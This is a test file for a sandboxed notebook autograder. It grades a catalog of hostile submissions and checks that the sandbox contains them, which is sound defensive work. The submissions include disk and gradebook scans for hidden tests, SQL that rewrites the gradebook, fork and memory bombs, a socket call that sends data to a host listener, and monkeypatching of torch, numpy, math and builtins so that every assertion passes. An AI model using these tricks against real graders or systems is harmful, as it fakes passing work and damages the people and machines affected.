"""The attack catalog: hostile submissions graded by the sandboxed autograder, in one batch.

A tiny fixture unit (``99_fixture``: three autograded functions whose tests use strict type
checks, ``torch.testing``, ``numpy.testing``, ``math.isclose``, builtins and the call guard
``forbid``, plus a written answer) is generated in a temporary copy of the course. Every attack below is a submission of
that unit, graded in ONE batch with two workers next to an honest solution, a blank exercise
and a wrong one, under tight limits. For each attack the tests assert that the batch completed
and it was graded; that it earns exactly the points it earns honestly (mostly 0, with the
wrong answers every attack carries); that the correct submission in the same batch keeps full
marks; that nothing outside the sandbox changed (solutions/, exercises/, the gradebook's tests
and checksums, $HOME, /tmp, the network); and that the feedback it gets shows no hidden test
code while still naming the part that failed and its visible message. Student code must also not
reach the grader beyond its runner (the review rules, the plan) nor switch off the call guard.
"""

from __future__ import annotations

import copy
import hashlib
import html
import json
import os
import re
import secrets
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest
from classroom_course import submission_scores

import grader
from grader.autograde import autograde
from grader.course import import_submissions
from grader.feedback import feedback
from grader.redact import hidden_test_lines
from grader.sandbox import Limits, sandbox_problem

ROOT = Path(__file__).resolve().parents[2]
UNIT = "99_fixture"
TOKEN = secrets.token_hex(4)
POINTS = {"add_test": 2.0, "softmax_test": 3.0, "count_test": 2.0}
LIMITS = Limits(cell_timeout=4, timeout=40, memory_mb=4608, processes=32, cpu_seconds=60, tmpfs_mb=64)

pytestmark = pytest.mark.skipif(sandbox_problem() is not None, reason=f"no grading sandbox here: {sandbox_problem()}")


def _cell(kind: str, source: str, grade_id: str, *, solution=False, grade=False, locked=False, points=None):
    meta = {
        "grade": grade,
        "grade_id": grade_id,
        "locked": locked,
        "schema_version": 3,
        "solution": solution,
        "task": False,
    }
    if points is not None:
        meta["points"] = points
    make = nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell
    return make(source, metadata={"nbgrader": meta})


SETUP = """import builtins
import math

import numpy as np
import torch

from course_utils.testing.checks import check_close, check_equal, check_type, forbid

WORDS = open("words.txt").read().split()  # a data file shipped with the exercise"""
ANSWERS = {
    "add_answer": "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION",
    "softmax_answer": "def softmax(x):\n    # x (B, D) -> (B, D), rows sum to 1\n    ### BEGIN SOLUTION\n"
    "    e = torch.exp(x - x.max(dim=-1, keepdim=True).values)\n"
    "    return e / e.sum(dim=-1, keepdim=True)\n    ### END SOLUTION",
    "count_answer": "def count_words(text):\n    ### BEGIN SOLUTION\n    counts = {}\n    for word in text.split():\n"
    "        counts[word] = counts.get(word, 0) + 1\n    return counts\n    ### END SOLUTION",
}
TESTS = {
    "add_test": """# Visible tests for add
check_equal(add(2, 3), 5, "add(2, 3)", hint="add the two numbers")
### BEGIN HIDDEN TESTS
for _a, _b in [(10, -4), (123456, 654321), (-7, -8)]:
    check_equal(add(_a, _b), _a + _b, f"add({_a}, {_b})", hint="hidden add check")
assert isinstance(add(1, 1), int) and type(add(1, 1)) is int, "add(1, 1) must be an int"
assert abs(add(0.5, 0.25) - 0.75) < 1e-12 and math.isclose(add(0.5, 0.25), 0.75), "add(0.5, 0.25) is 0.75"
### END HIDDEN TESTS""",
    "softmax_test": """# Visible tests for softmax
_x = torch.tensor([[0.0, 1.0, 2.0]])
check_close(softmax(_x), torch.softmax(_x, dim=-1), "softmax(x)", hint="exponentiate, then normalize each row")
### BEGIN HIDDEN TESTS
import math as _fixture_math
_fixture_gen = torch.Generator().manual_seed(1234)
_fixture_x = torch.randn(4, 7, generator=_fixture_gen, dtype=torch.float64) * 5
_fixture_ref = torch.softmax(_fixture_x, dim=-1)
with forbid(torch.softmax, torch.nn.functional.softmax):  # the call guard, next to the runner's audit hook
    _fixture_got = softmax(_fixture_x)
check_type(_fixture_got, torch.Tensor, "softmax(hidden x)")
torch.testing.assert_close(_fixture_got, _fixture_ref)
np.testing.assert_allclose(_fixture_got.numpy(), _fixture_ref.numpy(), rtol=1e-9)
assert torch.allclose(_fixture_got, _fixture_ref) and torch.equal(_fixture_got.argmax(-1), _fixture_ref.argmax(-1))
assert all(_fixture_math.isclose(float(s), 1.0, rel_tol=1e-9) for s in _fixture_got.sum(dim=-1)), "rows sum to 1"
### END HIDDEN TESTS""",
    "count_test": """# Visible tests for count_words
check_equal(count_words("a b a"), {"a": 2, "b": 1}, "count_words('a b a')")
check_equal(count_words(" ".join(WORDS)), {"alpha": 1, "beta": 1}, "count_words(words.txt)")
### BEGIN HIDDEN TESTS
_fixture_text = "the cat and the hat and the bat"
check_equal(count_words(_fixture_text), {"the": 3, "cat": 1, "and": 2, "hat": 1, "bat": 1}, "count_words(hidden)")
check_equal(count_words(""), {}, "count_words('')")
### END HIDDEN TESTS""",
}
WRONG = {
    "add_answer": "def add(a, b):\n    return a - b",
    "softmax_answer": "def softmax(x):\n    return x / x.sum(dim=-1, keepdim=True)",
    "count_answer": "def count_words(text):\n    return {w: 1 for w in text.split()}",
}
CORRECT = {k: re.sub(r"\s*### (BEGIN|END) SOLUTION", "", v) for k, v in ANSWERS.items()}
GRADER_DIR = str(Path(grader.__file__).resolve().parent)  # where the grader lives on the host


def fixture_notebook():
    cells = [
        _cell("markdown", "# Fixture unit for the attack catalog", "intro", locked=True),
        _cell("code", SETUP, "setup", locked=True),
    ]
    for part in ("add", "softmax", "count"):
        cells.append(_cell("code", ANSWERS[f"{part}_answer"], f"{part}_answer", solution=True))
        cells.append(
            _cell("code", TESTS[f"{part}_test"], f"{part}_test", grade=True, locked=True, points=POINTS[f"{part}_test"])
        )
    cells.append(_cell("markdown", "Why does softmax subtract the maximum?", "why_question", locked=True))
    cells.append(
        _cell(
            "markdown",
            "### BEGIN SOLUTION\nFor numerical stability.\n### END SOLUTION",
            "why",
            solution=True,
            grade=True,
            points=1,
        )
    )
    nb = nbformat.v4.new_notebook(cells=cells)
    nb.metadata.kernelspec = {"display_name": "Python 3", "language": "python", "name": "python3"}
    return nb


def _code(source: str) -> str:
    return source.replace("TOKEN", TOKEN)


# Each attack: answer cells (on top of WRONG), expected honest scores (default 0), optional mutation.
ATTACKS: dict[str, dict] = {
    "eq_always_true": {
        "answers": {
            "add_answer": """class _Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 0.75
    def __sub__(self, other): return 0.0
    def __abs__(self): return 0.0
def add(a, b): return _Anything()""",
            "softmax_answer": "def softmax(x): return _Anything()",
            "count_answer": "def count_words(text): return _Anything()",
        }
    },
    "ipython_input_transformer": {
        "answers": {
            "add_answer": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
            + WRONG["add_answer"]
        }
    },
    "read_hidden_tests_from_disk": {
        "answers": {
            "add_answer": """import os, sqlite3
_found = []
for _path in [COURSE + '/solutions', COURSE + '/gradebook.db', COURSE + '/exercises', COURSE, '/job', '..', '/home',
              '/tmp', os.path.expanduser('~'), '/work']:
    for _root, _dirs, _files in (os.walk(_path) if os.path.isdir(_path) else [('', [], [_path])]):
        _dirs[:] = [d for d in _dirs if d not in ('.venv', 'site-packages', 'course_utils')]
        for _f in _files:
            try:
                with open(os.path.join(_root, _f), errors='ignore') as _fh:
                    _text = _fh.read(10**6)
            except OSError:
                continue
            if 'HIDDEN ' + 'TESTS' in _text or 'hidden add ' + 'check' in _text:
                _found.append(_text)
try:
    _found += [r[0] for r in sqlite3.connect(COURSE + '/gradebook.db').execute('select source from source_cell')]
except Exception as _e:
    print('gradebook:', type(_e).__name__)
print(f'FOUND={len(_found)}')
print('\\n'.join(_found))
def add(a, b):
    raise AssertionError('\\n'.join(_found)[:5000] or 'nothing found')"""
        }
    },
    "leak_hidden_tests_via_frames": {
        "answers": {
            "softmax_answer": """import gc, sys
def softmax(x):
    seen = []
    frame = sys._getframe(1)
    while frame is not None:
        seen += [repr(v) for v in list(frame.f_locals.values()) + list(frame.f_code.co_consts)]
        frame = frame.f_back
    for obj in gc.get_objects():
        if isinstance(obj, (list, tuple, dict)):
            values = obj.values() if isinstance(obj, dict) else obj
            seen += [v for v in list(values) if isinstance(v, str) and 'HIDDEN ' + 'TESTS' in v]
    leaked = [s for s in seen if 'HIDDEN ' + 'TESTS' in s]
    print(f'LEAKED={len(leaked)}', *leaked)
    raise AssertionError('\\n'.join(leaked + seen)[:20000])"""
        }
    },
    "rewrite_gradebook_tests": {
        "answers": {
            "add_answer": """import sqlite3
_db = sqlite3.connect(COURSE + '/gradebook.db')
_db.execute("update source_cell set source = 'pass', checksum = 'x'")
_db.execute("update grade_cells set max_score = 100")
_db.commit()
"""
            + WRONG["add_answer"]
        }
    },
    "infinite_loop": {
        "answers": {"add_answer": CORRECT["add_answer"], "softmax_answer": "while True:\n    pass"},
        "expect": {"add_test": 2.0},
    },
    "stubborn_infinite_loop": {
        "answers": {
            "add_answer": CORRECT["add_answer"],
            "softmax_answer": """while True:
    try:
        while True:
            pass
    except BaseException:
        pass""",
        },
        "expect": {"add_test": 2.0},
    },
    "memory_bomb": {
        "answers": {
            "add_answer": """import torch
_chunks = []
try:
    _huge = bytearray(1 << 40)
except MemoryError:
    pass
try:
    _t = torch.empty(1 << 38)
except RuntimeError:
    pass
while True:
    _chunks.append(bytearray(200 * 2**20))""",
            "softmax_answer": CORRECT["softmax_answer"],
        },
        "expect": {"softmax_test": 3.0},
    },
    "fork_bomb": {
        "answers": {"add_answer": "import os\nwhile True:\n    os.fork()", "softmax_answer": CORRECT["softmax_answer"]},
        "expect": {"softmax_test": 3.0},
    },
    "fork_bomb_that_holds_on": {
        "answers": {
            "add_answer": """import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)""",
            "softmax_answer": CORRECT["softmax_answer"],
        },
        "expect": {"softmax_test": 3.0},
    },
    "os_exit": {
        "answers": {"add_answer": CORRECT["add_answer"], "softmax_answer": "import os\nos._exit(0)"},
        "expect": {"add_test": 2.0},
    },
    "sys_exit": {
        "answers": {
            "add_answer": CORRECT["add_answer"],
            "softmax_answer": "import sys\nsys.exit()",
            "count_answer": "import sys\ndef count_words(text):\n    sys.exit(0)",
        },
        "expect": {"add_test": 2.0},
    },
    "segfault": {
        "answers": {"add_answer": CORRECT["add_answer"], "softmax_answer": "import ctypes\nctypes.string_at(0)"},
        "expect": {"add_test": 2.0},
    },
    "network": {
        "answers": {
            "add_answer": """import socket, urllib.request
for _host in ('127.0.0.1', HOST_IP):
    try:
        socket.create_connection((_host, PORT), timeout=2).sendall(b'pwned')
        print('CONNECTED', _host)
    except OSError as _e:
        print('no connection', _host, type(_e).__name__)
try:
    socket.getaddrinfo('pypi.org', 443)
    print('RESOLVED')
except OSError:
    pass
"""
            + WRONG["add_answer"]
        }
    },
    "write_outside_its_folder": {
        "answers": {
            "add_answer": """import os
for _path in [COURSE + '/solutions/99_fixture/pwned-TOKEN', COURSE + '/pwned-TOKEN', COURSE + '/exercises/pwned-TOKEN',
              os.path.expanduser('~/pwned-TOKEN'), '/root/pwned-TOKEN', '/tmp/pwned-TOKEN', '../pwned-TOKEN',
              HOME + '/pwned-TOKEN']:
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        with open(_path, 'w') as _fh:
            _fh.write('pwned')
    except OSError:
        pass
for _path in [COURSE + '/gradebook.db', COURSE + '/solutions/99_fixture/99_fixture.ipynb']:
    try:
        with open(_path, 'a') as _fh:
            _fh.write('pwned')
    except OSError:
        pass
"""
            + WRONG["add_answer"]
        }
    },
    "cells_deleted": {"mutate": "delete_tests"},
    "cells_reordered_and_tests_deleted": {"answers": CORRECT, "mutate": "reorder", "expect": dict(POINTS)},
    "cells_renamed": {"answers": {"add_answer": CORRECT["add_answer"]}, "mutate": "rename"},
    "metadata_changed": {"mutate": "metadata"},
    "patch_torch_testing": {
        "answers": {
            "add_answer": """import torch
torch.testing.assert_close = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.softmax = lambda x, dim=-1: x / x.sum(dim=-1, keepdim=True)
import torch.testing._comparison as _comparison
_comparison.not_close_error_metas = lambda *a, **k: []
"""
            + WRONG["add_answer"]
        }
    },
    "patch_numpy_testing": {
        "answers": {
            "add_answer": "import numpy as np\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n" + WRONG["add_answer"]
        }
    },
    "patch_math_isclose_and_sys_modules": {
        "answers": {
            "add_answer": """import math, sys, types
math.isclose = lambda *a, **k: True
_fake = types.ModuleType('math')
_fake.isclose = lambda *a, **k: True
sys.modules['math'] = _fake
"""
            + WRONG["add_answer"]
        }
    },
    "patch_builtins": {
        "answers": {
            "add_answer": """import builtins
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
builtins.all = lambda it: True
globals()['__builtins__'] = dict(vars(builtins), isinstance=lambda *a: True, abs=lambda x: 0, all=lambda it: True)
"""
            + WRONG["add_answer"]
        }
    },
    "patch_checks": {
        "answers": {
            "add_answer": """import course_utils.testing.checks as _checks
_checks.check_equal = _checks.check_close = _checks.check_type = lambda *a, **k: None
check_equal = check_close = check_type = lambda *a, **k: None
for _name in ('check_equal', 'check_close', 'check_type'):
    for _attr, _value in (('__code__', (lambda *a, **k: None).__code__), ('__defaults__', (1e9, 1e9, None))):
        try:
            setattr(getattr(_checks, _name), _attr, _value)
        except Exception as _e:
            print('blocked:', _name, _attr, type(_e).__name__)
"""
            + WRONG["add_answer"]
        }
    },
    "patch_tensor_class": {
        "answers": {
            "add_answer": """import torch
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.any = lambda self, *a, **k: torch.tensor(False)
torch.Tensor.softmax = lambda self, dim=-1: self / self.sum(dim=dim, keepdim=True)
"""
            + WRONG["add_answer"]
        }
    },
    "patch_during_the_test": {
        "answers": {
            "softmax_answer": """def softmax(x):
    import math, numpy, torch, builtins
    if x.dtype == torch.float32:  # right on the visible test, wrong on the hidden ones
        return torch.exp(x) / torch.exp(x).sum(dim=-1, keepdim=True)
    torch.testing.assert_close = lambda *a, **k: None
    numpy.testing.assert_allclose = lambda *a, **k: None
    torch.allclose = torch.equal = lambda *a, **k: True
    math.isclose = lambda *a, **k: True
    builtins.all = lambda it: True
    return x / x.sum(dim=-1, keepdim=True)"""
        }
    },
    "trace_function_swaps_results": {
        "answers": {
            "softmax_answer": """import sys
def _tracer(frame, event, arg):
    if frame.f_code.co_filename.startswith('<test'):
        g = frame.f_globals
        if '_fixture_ref' in g:
            g['_fixture_got'] = g['_fixture_ref']
        return _tracer
    return None
sys.settrace(_tracer)
def softmax(x):
    if x.dtype == torch.float32:  # right on the visible test, wrong on the hidden ones
        return torch.exp(x) / torch.exp(x).sum(dim=-1, keepdim=True)
    sys.settrace(_tracer)
    sys._getframe(1).f_trace = _tracer
    return x / x.sum(dim=-1, keepdim=True)"""
        }
    },
    "background_thread_repatches": {
        "answers": {
            "add_answer": """import threading, time, math, torch
def _loop():
    while True:
        math.isclose = lambda *a, **k: True
        torch.testing.assert_close = lambda *a, **k: None
        time.sleep(0.001)
threading.Thread(target=_loop, daemon=True).start()
"""
            + WRONG["add_answer"]
        }
    },
    "torch_function_mode": {
        "answers": {
            "add_answer": """import torch
from torch.overrides import TorchFunctionMode
class _Agree(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        return func(*args, **(kwargs or {}))
_Agree().__enter__()
"""
            + WRONG["add_answer"]
        }
    },
    "gc_callback_and_signal_timer": {
        "answers": {
            "add_answer": """import gc, math, signal
def _patch(*args):
    math.isclose = lambda *a, **k: True
gc.callbacks.append(_patch)
signal.signal(signal.SIGPROF, _patch)
signal.setitimer(signal.ITIMER_PROF, 0.01, 0.01)
"""
            + WRONG["add_answer"]
        }
    },
    "code_swap_and_audit_hook": {
        "answers": {
            "add_answer": """import sys
try:
    sys.addaudithook(lambda event, args: None)
except Exception as _e:
    print('audit hook refused:', type(_e).__name__)
"""
            + WRONG["add_answer"]
        }
    },
    "clear_profile_hook": {
        "answers": dict(
            CORRECT,
            softmax_answer="import sys\n"
            + CORRECT["softmax_answer"].replace(
                "def softmax(x):\n", "def softmax(x):\n    sys.setprofile(None)  # the call guard's hook\n"
            ),
        ),
        "expect": {"add_test": 2.0, "count_test": 2.0},
    },
    "clear_profile_hook_via_partial": {
        "answers": dict(
            CORRECT,
            softmax_answer="import functools, sys\n"
            + CORRECT["softmax_answer"].replace(
                "def softmax(x):\n", "def softmax(x):\n    functools.partial(sys.setprofile, None)()\n"
            ),
        ),
        "expect": {"add_test": 2.0, "count_test": 2.0},
    },
    "read_the_grader": {
        "answers": {
            "add_answer": """import importlib, os, sys
_seen = []
for _name in ('grader', 'grader.review', 'grader.plan', 'grader.redact', 'grader.sandbox', 'grader.cli'):
    try:
        _module = importlib.import_module(_name)
    except Exception:
        continue
    if getattr(_module, '__file__', None) or hasattr(_module, 'SUSPICIOUS') or hasattr(_module, 'splice'):
        _seen.append(_name)
for _dir in [GRADER_DIR, '/grader'] + [os.path.join(_p, 'grader') for _p in sys.path]:
    for _file in ('review.py', 'plan.py', 'redact.py', 'sandbox.py', 'cli.py', 'autograde.py', 'feedback.py',
                  '__init__.py'):
        try:
            with open(os.path.join(_dir, _file)) as _fh:
                _seen.append(_fh.name + ' ' + _fh.read(80))
        except OSError:
            pass
print(f'GRADER_SEEN={len(_seen)}', _seen)
print('RUNNER_DIR=' + repr(sorted(os.listdir('/grader'))))
""".replace("GRADER_DIR", repr(GRADER_DIR))
            + WRONG["add_answer"]
        }
    },
}
BASELINE = {"solution": {"answers": CORRECT, "expect": dict(POINTS)}, "wrong": {}, "blank": {"blank": True}}


def _submission(release: dict, spec: dict, context: dict) -> dict:
    nb = copy.deepcopy(release)
    answers = dict(WRONG, **spec.get("answers", {})) if not spec.get("blank") else {}
    prelude = "".join(f"{k} = {v!r}\n" for k, v in context.items())  # what an attacker could know
    for cell in nb["cells"]:
        grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell["source"] = _code(prelude + answers[grade_id])
    mutate = spec.get("mutate")
    cells = nb["cells"]
    meta = lambda c: c["metadata"].get("nbgrader", {})  # noqa: E731
    if mutate in ("delete_tests", "reorder"):
        cells[:] = [c for c in cells if not meta(c).get("grade") or meta(c).get("solution")]
        if mutate == "reorder":
            cells.reverse()
    elif mutate == "rename":
        for cell in cells:
            if meta(cell).get("grade_id") == "add_answer":
                meta(cell)["grade_id"], cell["id"] = "my_add", "renamed0"
    elif mutate == "metadata":
        for cell in cells:
            m = meta(cell)
            if m.get("grade") and not m.get("solution"):
                m["points"] = 100
                cell["source"] = "pass"
            if m.get("grade_id") == "add_answer":
                m.update(grade=True, points=50)
            if m.get("grade_id") == "softmax_test":
                m["grade_id"] = "renamed_test"
        extra = copy.deepcopy(cells[1])
        extra["id"], extra["source"] = "extra0", "pass"
        extra["metadata"]["nbgrader"].update(grade=True, grade_id="add_test", points=100, locked=False)
        cells.insert(2, extra)
    return nb


def _tree_hash(path: Path) -> str:
    digest = hashlib.sha256()
    for item in sorted(p for p in path.rglob("*") if p.is_file()):
        digest.update(str(item.relative_to(path)).encode() + item.read_bytes())
    return digest.hexdigest()


def _gradebook_tests(course: Path) -> list:
    with sqlite3.connect(course / "gradebook.db") as db:
        cells = db.execute("select name, source, checksum from source_cell order by name").fetchall()
        grades = db.execute(
            "select b.name, g.max_score from grade_cells g join base_cell b on g.id = b.id order by b.name"
        ).fetchall()
    return cells + grades


def _nbgrader(course: Path, *args: str) -> None:
    env = dict(
        os.environ, PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
    )  # nbgrader runs alembic
    subprocess.run(
        [sys.executable, "-m", "nbgrader", *args, "--log-level=ERROR"],
        cwd=course,
        check=True,
        capture_output=True,
        env=env,
    )


class _Listener:
    """A TCP server on the host that records every connection (there must be none)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port, self.accepted, self.running = self.sock.getsockname()[1], [], True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                self.accepted.append(self.sock.accept()[1])
            except OSError:
                continue

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.sock.close()


def _host_ip() -> str:
    try:
        return socket.gethostbyname(socket.gethostname())
    except OSError:
        return "127.0.0.1"


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The fixture course after one sandboxed batch (2 workers) of every attack and the baselines."""
    course = tmp_path_factory.mktemp("attack_course")
    (course / "solutions" / UNIT).mkdir(parents=True)
    nbformat.write(fixture_notebook(), str(course / "solutions" / UNIT / f"{UNIT}.ipynb"))
    (course / "solutions" / UNIT / "words.txt").write_text("alpha beta\n")
    shutil.copy(ROOT / "nbgrader_config.py", course)
    _nbgrader(course, "generate_assignment", UNIT, "--force")
    release = json.loads((course / "exercises" / UNIT / f"{UNIT}.ipynb").read_text())
    listener = _Listener()
    context = {"COURSE": str(course), "HOME": str(Path.home()), "PORT": listener.port, "HOST_IP": _host_ip()}
    inbox = tmp_path_factory.mktemp("inbox")
    for name, spec in {**BASELINE, **ATTACKS}.items():
        nb = _submission(release, spec, context if name in ATTACKS else {})
        (inbox / f"{name}.ipynb").write_text(json.dumps(nb))
    import_submissions(course, UNIT, inbox)
    before = {
        "solutions": _tree_hash(course / "solutions"),
        "exercises": _tree_hash(course / "exercises"),
        "gradebook": _gradebook_tests(course),
    }
    results = autograde(course, [UNIT], workers=2, limits=LIMITS, log=lambda line: None)
    regraded = autograde(course, [UNIT], ["wrong"], workers=1, limits=LIMITS, log=lambda line: None)
    leaked = feedback(course, [UNIT])
    listener.close()
    yield {
        "course": course,
        "results": {r.student: r for r in results},
        "regraded": regraded,
        "leaked": leaked,
        "before": before,
        "accepted": listener.accepted,
    }


def _scores(course: Path, student: str) -> dict[str, tuple[float, float]]:
    return submission_scores(course, UNIT, student)


def _feedback_text(course: Path, student: str) -> str:
    page = course / "feedback" / student / UNIT / f"{UNIT}.html"
    assert page.exists(), f"{student}: no feedback page"
    return html.unescape(re.sub(r"<[^>]+>", "", page.read_text(encoding="utf-8")))


def _hidden_lines() -> list[str]:
    return [line for source in TESTS.values() for line in hidden_test_lines(source, visible=SETUP)]


def test_correct_submission_keeps_full_marks_in_the_hostile_batch(graded):
    assert _scores(graded["course"], "solution") == {k: (v, v) for k, v in POINTS.items()}


def test_blank_and_wrong_submissions_score_zero(graded):
    for student in ("blank", "wrong"):
        assert _scores(graded["course"], student) == {k: (0.0, v) for k, v in POINTS.items()}, student
    regraded = graded["regraded"]
    assert len(regraded) == 1 and regraded[0].scores == {k: 0.0 for k in POINTS}, "re-graded wrong answer earns points"


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_attack_earns_only_honest_points(graded, attack):
    result = graded["results"].get(attack)
    assert result is not None, f"{attack}: the batch did not grade it"
    assert (graded["course"] / "autograded" / attack / UNIT / f"{UNIT}.ipynb").exists()
    expected = {k: (ATTACKS[attack].get("expect", {}).get(k, 0.0), v) for k, v in POINTS.items()}
    assert _scores(graded["course"], attack) == expected, f"{attack}: {result.flags} {result.run.detail}"


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_feedback_reveals_no_hidden_test(graded, attack):
    assert not graded["leaked"], f"feedback pages quoting hidden tests were removed: {graded['leaked']}"
    text = _feedback_text(graded["course"], attack)
    assert "HIDDEN TESTS" not in text
    shown = [line for line in _hidden_lines() if line in text]
    assert not shown, f"{attack}: feedback shows hidden test code {shown[:3]}"


def test_feedback_names_the_failing_part_and_its_visible_message(graded):
    wrong = _feedback_text(graded["course"], "wrong")
    assert "add(2, 3): got -1, expected 5" in wrong and "Hint: add the two numbers" in wrong
    assert "NotImplementedError" in _feedback_text(graded["course"], "blank")
    assert "Score: 0.0 / 2.0" in wrong and "Score: 3.0 / 3.0" in _feedback_text(graded["course"], "solution")


def test_nothing_outside_the_sandbox_changed(graded):
    course, before = graded["course"], graded["before"]
    assert _tree_hash(course / "solutions") == before["solutions"], "solutions/ changed"
    assert _tree_hash(course / "exercises") == before["exercises"], "exercises/ changed"
    assert _gradebook_tests(course) == before["gradebook"], "the gradebook's tests, checksums or points changed"
    found = [
        p
        for p in [course, course / "solutions" / UNIT, Path.home(), Path("/tmp"), Path("/root")]
        if p.is_dir() and list(p.glob(f"pwned-{TOKEN}"))
    ]
    assert not found, f"an attack wrote into {found}"
    assert not graded["accepted"], "a submission reached the network"


def _log(graded, name: str) -> dict:
    return json.loads((graded["course"] / "autograded" / name / UNIT / "autograde.log").read_text())[0]


def _printed(graded, name: str) -> str:
    nb = nbformat.read(str(graded["course"] / "autograded" / name / UNIT / f"{UNIT}.ipynb"), as_version=4)
    return "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []) if o.get("name") == "stdout")


def _logged_cell(graded, name: str, grade_id: str) -> dict:
    return next(c for c in _log(graded, name)["cells"].values() if c["grade_id"] == grade_id)


def test_attacks_could_not_read_or_leak_hidden_tests(graded):
    for name, marker in (("read_hidden_tests_from_disk", "FOUND=0"), ("leak_hidden_tests_via_frames", "LEAKED=0")):
        assert marker in _printed(graded, name), f"{name}: {_printed(graded, name)[:500]}"
    assert _log(graded, "leak_hidden_tests_via_frames")["flags"], "frame inspection was not flagged for review"


def test_student_code_sees_the_runner_but_not_the_rest_of_the_grader(graded):
    """The sandbox shows course_utils and the runner script, not the review rules, the plan or the CLI."""
    printed = _printed(graded, "read_the_grader")
    assert "GRADER_SEEN=0" in printed, printed[:2000]
    assert "RUNNER_DIR=['runner.py']" in printed, printed[:2000]
    assert any(f.startswith("grader@") for f in graded["results"]["read_the_grader"].flags)


def test_student_code_cannot_switch_off_the_call_guard(graded):
    """sys.setprofile, directly or through functools.partial (C code: no frame of its own), from the
    function a test calls: the runner's audit hook refuses it, and that test alone scores 0."""
    for name in ("clear_profile_hook", "clear_profile_hook_via_partial"):
        cell = _logged_cell(graded, name, "softmax_test")
        assert cell["status"] == "error" and cell["ename"] == "PermissionError", (name, cell)
        assert "tracing@softmax_answer" in graded["results"][name].flags


def test_review_flags_and_tampering_are_reported(graded):
    flags = {name: " ".join(r.flags) for name, r in graded["results"].items()}
    assert "tampered" in flags["patch_during_the_test"] and "tampered" in flags["background_thread_repatches"]
    trace = _logged_cell(graded, "trace_function_swaps_results", "softmax_answer")  # sys.settrace is refused outright
    assert trace["ename"] == "PermissionError" and "tracing" in flags["trace_function_swaps_results"], trace
    assert "tampered" in flags["torch_function_mode"]
    assert "ctypes" in flags["segfault"] and "crashed" in flags["segfault"]
    assert "timeout" in flags["stubborn_infinite_loop"]
    assert not flags["solution"] and not flags["wrong"], "honest submissions were flagged"
